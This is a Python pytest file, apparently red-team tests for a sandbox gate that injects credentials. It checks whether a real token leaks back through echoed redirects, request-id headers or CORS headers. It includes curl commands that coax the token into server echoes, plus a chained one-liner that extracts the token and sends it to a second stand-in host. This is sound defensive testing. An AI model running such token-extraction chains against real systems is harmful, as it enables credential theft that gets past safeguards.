"""Red team 13: the real value comes back into the sandbox in the credential host's own answer.

The gate swaps the real token into any header whose whole value is the placeholder (not only
auth headers: X-Request-Id, Origin, …) and into token-named query parameters, and never
scrubs responses. Ordinary servers echo exactly those: a trailing-slash (or renamed
repository) redirect keeps the query in its Location, request-id middlewares echo
X-Request-Id, CORS echoes Origin. The step reads the real token in the response headers.
The credential's host is an ordinary, honest server here; nothing is sent anywhere else.
"""

import shutil
from urllib.parse import urlsplit

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


def _ordinary(method, path, headers, body):
    """What everyday web servers do: a path without its trailing slash is redirected to the
    slashed one with the query kept; X-Request-Id and Origin are echoed."""
    base, _, query = path.partition("?")
    out = {"Content-Type": "text/plain"}
    if "x-request-id" in headers:
        out["X-Request-Id"] = headers["x-request-id"]
    if "origin" in headers:
        out["Access-Control-Allow-Origin"] = headers["origin"]
    if not base.endswith("/"):
        out["Location"] = f"https://{headers.get('host', '')}{base}/" + (f"?{query}" if query else "")
        return 301, out, b"moved\n"
    return 200, out, b"ok\n"


def _setup(attacker, stub):
    attacker.env["MY_TOKEN"] = CANARY                # the person's token, outside only
    api = hostport(stub, "api.github.com")
    netproject(attacker, stub, stub,
               f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
    return f"https://{api}"


@pytest.mark.parametrize("how", [
    # a token-named query parameter, kept by the redirect's Location
    "curl -s -D - -o /dev/null \"{api}/repos/o/r?access_token=$MY_TOKEN\"",
    # a header whose whole value is the placeholder, echoed by request-id middleware
    "curl -s -D - -o /dev/null -H \"X-Request-Id: $MY_TOKEN\" {api}/",
    # Origin, echoed by CORS
    "curl -s -D - -o /dev/null -H \"Origin: $MY_TOKEN\" {api}/",
])
def test_the_real_token_is_not_echoed_back_into_the_step(attacker, how):
    with servers(_ordinary) as (git, stub):
        api = _setup(attacker, stub)
        r = attacker.run(how.format(api=api) + "; echo done")
        assert "done" in r.stdout, r.stdout + r.stderr
        assert stub.requests, "the request never reached the credential's host"
        assert CANARY not in r.stdout + r.stderr, \
            "the real token came back into the sandbox in the credential host's answer"


def test_an_echoed_real_token_is_not_carried_to_another_host(attacker):
    """The chain: the step reads the real token from the echo, then sends it anywhere. The gate
    looks only for placeholders, never for the real values it swapped in, so the second host
    receives the real token and the step is not marked."""
    with servers(_ordinary) as (git, stub):
        api = _setup(attacker, stub)
        other = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.run(f"t=$(curl -s -D - -o /dev/null \"{api}/x?access_token=$MY_TOKEN\" | "
                     "grep -i '^location:' | sed 's/.*access_token=//' | tr -d '\\r'); "
                     f"curl -s -o /dev/null \"{other}/?q=$t\"")
        got = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
               and CANARY in q["path"]]
        assert not got, f"the real token reached stub.example.test: {got[0]['path']}"
